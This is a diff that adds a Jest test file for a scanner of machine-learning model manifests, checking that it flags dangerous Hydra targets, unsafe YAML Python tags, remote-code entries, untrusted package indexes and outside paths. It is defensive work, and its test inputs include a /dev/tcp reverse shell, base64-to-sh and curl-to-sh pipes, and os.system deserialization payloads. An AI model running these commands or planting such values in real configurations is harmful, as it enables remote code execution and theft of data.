@@ -1,0 +1,204 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { MemorySource } from '../../../src/bytes/memory-source.js';
+import { FileBudget } from '../../../src/engine/file-budget.js';
+import { inspect } from '../../../src/engine/inspect.js';
+import { formats } from '../../../src/formats/index.js';
+import { inspectBytes } from '../../support/inspect-bytes.js';
+import { fixtures } from '../../../fixtures/manifest/make.js';
+
+const told = async (text: string, name: string): Promise<readonly string[]> =>
+  (await inspectBytes(Buffer.from(text), name)).told;
+const grave = (lines: readonly string[]): readonly string[] =>
+  lines.filter((line) => !line.startsWith('info'));
+
+describe('what a manifest has a loader do', () => {
+  it.each([
+    ['_target_: os.system', 'critical'],
+    ['_target_: subprocess.Popen', 'critical'],
+    ['_target_: builtins.eval', 'critical'],
+    ['_target_: eval', 'critical'],
+    ['_target_: joblib.load', 'critical'],
+    ['_target_: torch.load', 'critical'],
+    ['_target_: numpy.load', 'critical'],
+    ['_target_: pandas.read_pickle', 'critical'],
+    ['_target_: runpy.run_path', 'critical'],
+    ['_target_: posix:system', 'critical'],
+    ['_target_: torch.utils.collect_env.run', 'critical'],
+    ['class_path: webbrowser.open', 'critical'],
+    ['py/reduce: [{py/function: os.system}]', 'critical'],
+    ['loader_module: os', undefined],
+    ['{_target_: hydra.utils.get_method, path: os.system}', 'critical'],
+    ['{class_path: x.Y, callback: {module: os, function: system}}', 'critical'],
+    ['_target_: torch.nn.Linear', undefined],
+    ['_target_: my_project.models.Net', undefined],
+    ['_target_: transformers.AutoModel.from_pretrained', undefined],
+    ['_target_: torchvision.datasets.CIFAR10', undefined],
+    ['{_target_: hydra.utils.get_method, path: torch.nn.functional.relu}', undefined],
+    ['{_target_: functools.partial, _args_: [torch.optim.Adam]}', undefined],
+    ['{_target_: x.Y, class: logging.FileHandler}', undefined],
+  ])('%s', async (line, severity) => {
+    const findings = grave(await told(`a:\n  ${line.startsWith('{') ? '- ' : ''}${line}\n`, 'config.yaml'));
+    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/dangerous-target`]);
+  });
+
+  it.each([
+    ['!!python/object/apply:os.system [x]', 'critical'],
+    ['!!python/object/apply:subprocess.Popen [[x]]', 'critical'],
+    ['!!python/object/new:type [a, [], {}]', 'critical'],
+    ['!!python/name:exec', 'critical'],
+    ['!!python/module:os', 'critical'],
+    ['!!python/object/apply:%6Fs.system [x]', 'critical'],
+    ['!!javax.script.ScriptEngineManager []', 'warning'],
+    ['!ruby/object:Gem::Installer {}', 'warning'],
+    ['!!python/object:my_project.Args {}', undefined],
+    ['!!python/tuple [1, 2]', undefined],
+    ['!!python/unicode x', undefined],
+    ['!!python/object/apply:collections.OrderedDict [[]]', undefined],
+    ['!!python/object/apply:pathlib.PosixPath [a]', undefined],
+  ])('the tag of %s', async (value, severity) => {
+    const findings = new Set(grave(await told(`hp: ${value}\n`, 'hparams.yaml')));
+    expect([...findings]).toEqual(severity === undefined ? [] : [`${severity} manifest/python-tag`]);
+  });
+
+  it.each([
+    ['"_attn_implementation_internal": "evil/kernel"', 'critical manifest/hub-kernel'],
+    [
+      '"vision_config": {"attn_implementation": {"": "evil/kernel@main:run"}}',
+      'critical manifest/hub-kernel',
+    ],
+    ['"_attn_implementation": "paged|sdpa"', undefined],
+    ['"_experts_implementation": "eager"', undefined],
+    ['"chat_template": [{"name": "a/../../b", "template": "x"}]', 'critical manifest/template-file-name'],
+    ['"chat_template": {"..": "x"}', 'critical manifest/template-file-name'],
+    ['"chat_template": [{"name": "rag", "template": "x"}]', undefined],
+    ['"auto_map": {"AutoModel": "evil/code--modeling.Net"}', 'warning manifest/remote-code'],
+    ['"auto_map": {"AutoTokenizer": ["tokenization.Slow", null]}', undefined],
+    ['"custom_pipelines": {"x": {"impl": "evil/code--pipeline.P"}}', 'warning manifest/remote-code'],
+    ['"\\u005ftarget_": "os.system"', 'critical manifest/dangerous-target'],
+    ['"_target_": "torch.nn.Linear", "_target_": "os.system"', 'critical manifest/dangerous-target'],
+  ])('the configuration {%s}', async (member, finding) => {
+    expect(grave(await told(`{${member}}`, 'config.json'))).toEqual(finding === undefined ? [] : [finding]);
+  });
+
+  it.each([
+    ['--index-url https://example.invalid/simple', 'warning'],
+    ['--extra-index-url=http://download.pytorch.org/whl', 'warning'],
+    ['torch --index-url https://example.invalid/simple', 'warning'],
+    ['-f https://example.invalid/wheels', 'warning'],
+    ['--trusted-host *', 'warning'],
+    ['git+http://example.invalid/x.git', 'warning'],
+    ['git+https://example.invalid/x.git', 'warning'],
+    ['https://example.invalid/x.whl', 'warning'],
+    ['-e git+https://example.invalid/x.git#egg=x', 'warning'],
+    ['colourama==1.0', 'warning'],
+    ['--extra-index-url https://download.pytorch.org/whl/cu118', undefined],
+    ['git+https://github.com/openai/CLIP.git@main', undefined],
+    ['clip @ git+https://github.com/openai/CLIP.git', undefined],
+    [
+      'https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl',
+      undefined,
+    ],
+    ['torch==2.1.0+cu118 ; python_version > "3.8" --hash=sha256:00', undefined],
+    ['-r base.txt # git+http://example.invalid', undefined],
+    ['-e .', undefined],
+  ])('the requirement %s', async (line, severity) => {
+    const findings = grave(await told(`numpy\n${line}\n`, 'requirements.txt'));
+    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/package-source`]);
+  });
+
+  it('judges the pip part of a conda environment', async () => {
+    const text =
+      'dependencies:\n  - python=3.10\n  - pip:\n    - --index-url http://example.invalid/\n    - torch\n';
+    expect(grave(await told(text, 'conda.yaml'))).toEqual(['warning manifest/package-source']);
+  });
+
+  it.each([
+    ['entry_points:\n  main:\n    command: "bash -i >& /dev/tcp/example.invalid/1 0>&1"', 'critical'],
+    ['stages:\n  a:\n    cmd:\n      - echo aGk= | base64 -d | sh', 'critical'],
+    ['entry_points:\n  main:\n    command: "python train.py --lr {lr}"', undefined],
+    ['stages:\n  a:\n    cmd: wget https://example.invalid/data.tgz', undefined],
+  ])('the command of %j', async (text, severity) => {
+    const findings = grave(await told(text, 'MLproject'));
+    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/shell-command`]);
+  });
+
+  it.each([
+    ['flavors:\n  sklearn:\n    pickled_model: ../../secret.pkl', 'critical'],
+    ['flavors:\n  python_function:\n    data: file:///etc/passwd', 'critical'],
+    ['flavors:\n  python_function:\n    data: \\\\example.invalid\\share', 'critical'],
+    ['flavors:\n  sklearn:\n    pickled_model: model.pkl', undefined],
+  ])('the path of %j', async (text, severity) => {
+    const findings = grave(await told(text, 'MLmodel'));
+    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/outside-path`]);
+  });
+
+  it('tells line and column', async () => {
+    const { drafts } = await inspectBytes(
+      Buffer.from('a: 1\nmodel:\n  _target_: os.system\n'),
+      'config.yaml',
+    );
+    expect(drafts[0]?.at).toEqual({ line: 3, column: 13, logical: 'model._target_' });
+  });
+
+  it('leaves files alone that are no part of a model', async () => {
+    for (const [text, name] of [
+      ['{"name": "x", "scripts": {"test": "curl x | sh"}}', 'package.json'],
+      ['on: push\njobs: {a: {run: "curl x | sh"}}', 'check.yml'],
+      ['plain words', 'notes.txt'],
+    ] as const)
+      expect(await inspectBytes(Buffer.from(text), name)).toMatchObject({
+        formats: [],
+        outcome: 'unrecognised',
+        told: [],
+      });
+  });
+
+  it('has the Python file that the configuration names judged', async () => {
+    const asked: string[] = [];
+    await inspect(
+      new MemorySource(Buffer.from('{"auto_map": {"AutoModel": "sub.modeling_x.Net"}}'), 'config.json'),
+      {
+        formats,
+        budget: new FileBudget(),
+        name: 'config.json',
+        sibling: (path) => {
+          asked.push(path);
+          return undefined;
+        },
+        report: () => undefined,
+      },
+    );
+    expect(asked.slice(0, 4)).toEqual([
+      'sub/modeling_x/Net.py',
+      'sub/modeling_x/Net/__init__.py',
+      'sub/modeling_x.py',
+      'sub/modeling_x/__init__.py',
+    ]);
+  });
+});
+
+describe('damaged manifests', () => {
+  it('end in a finding or are read', async () => {
+    const cases = Object.entries(fixtures);
+    await fc.assert(
+      fc.asyncProperty(
+        fc.constantFrom(...cases),
+        fc.nat(),
+        fc.integer({ min: 0, max: 255 }),
+        fc.boolean(),
+        async ([name, bytes], at, byte, cut) => {
+          const mutated = Buffer.from(bytes);
+          if (cut) mutated.fill(byte, at % mutated.length);
+          else mutated[at % mutated.length] = byte;
+          const { outcome, told: findings } = await inspectBytes(
+            mutated.subarray(0, cut ? at % mutated.length : undefined),
+            name,
+          );
+          if (outcome === 'partial') expect(findings).not.toEqual([]);
+        },
+      ),
+      { numRuns: 600 },
+    );
+  });
+});
